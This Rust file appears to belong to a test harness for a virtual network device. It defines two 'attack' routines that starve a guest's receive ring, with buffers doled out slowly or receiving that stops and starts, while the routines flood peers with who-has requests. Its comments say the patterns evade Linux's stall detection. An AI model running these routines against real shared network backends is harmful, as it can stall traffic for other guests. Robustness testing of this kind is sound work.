//! Guests that receive almost nothing.

use std::time::{Duration, Instant};

use ring::Slots as _;
use ring::netif::Rx;

use crate::Attack;
use crate::device::Outcome;
use crate::frames;
use crate::link::{Link, Shape};

/// The time between two buffers.
const BUFFER_INTERVAL: Duration = Duration::from_millis(100);
/// How long [`stopping_receiver`] receives, in turn with a stop.
const RUNS: Duration = Duration::from_millis(10);
/// How long it stops.
const STANDS: Duration = Duration::from_millis(150);
/// The pause between two requests for replies.
const QUESTION_INTERVAL: Duration = Duration::from_millis(1);

/// Single buffers, far apart, kept Linux's stall detection quiet while more and more frames waited.
pub fn doled_buffers(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
    let device = attack.device;
    let mut link = Link::connect_as(device, Shape { buffers: 0, ..Shape::default() })?;
    let question = frames::who_has(device);
    link.fill(0, &question)?;
    let deadline = Instant::now() + attack.duration();
    let (mut buffers, mut questions) = (0, 0);
    while Instant::now() < deadline {
        link.post_one()?;
        buffers += 1;
        let next = Instant::now() + BUFFER_INTERVAL;
        while Instant::now() < next {
            // Each request makes the peer send a reply, for which there is no buffer.
            let slot = link.slot(0, 0, u16::try_from(question.len())?, 0);
            link.transmit(&[slot])?;
            questions += 1;
            std::thread::sleep(Duration::from_millis(5));
        }
    }
    attack.did(format!("{buffers} buffers for the replies to {questions} requests"));
    // With a full ring of buffers this is a normal guest again.
    link.post_up_to(Rx::COUNT);
    link.notify()?;
    attack.prove(link)
}

/// Short runs kept a receiver from counting as stalled, while frames for it waited in their senders' windows.
pub fn stopping_receiver(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
    let device = attack.device;
    let mut link = Link::connect(device)?;
    let question = frames::who_has(device);
    link.fill(0, &question)?;
    let deadline = Instant::now() + attack.duration();
    let (mut stops, mut questions) = (0, 0);
    while Instant::now() < deadline {
        for (phase, receives) in [(RUNS, true), (STANDS, false)] {
            let end = Instant::now() + phase;
            while Instant::now() < end {
                if receives {
                    link.receive()?;
                }
                // Each request makes the peer send a reply to this guest.
                let slot = link.slot(0, 0, u16::try_from(question.len())?, 0);
                link.transmit(&[slot])?;
                questions += 1;
                std::thread::sleep(QUESTION_INTERVAL);
            }
        }
        stops += 1;
    }
    attack.did(format!("{stops} stops, {questions} requests for replies"));
    link.receive()?;
    attack.prove(link)
}
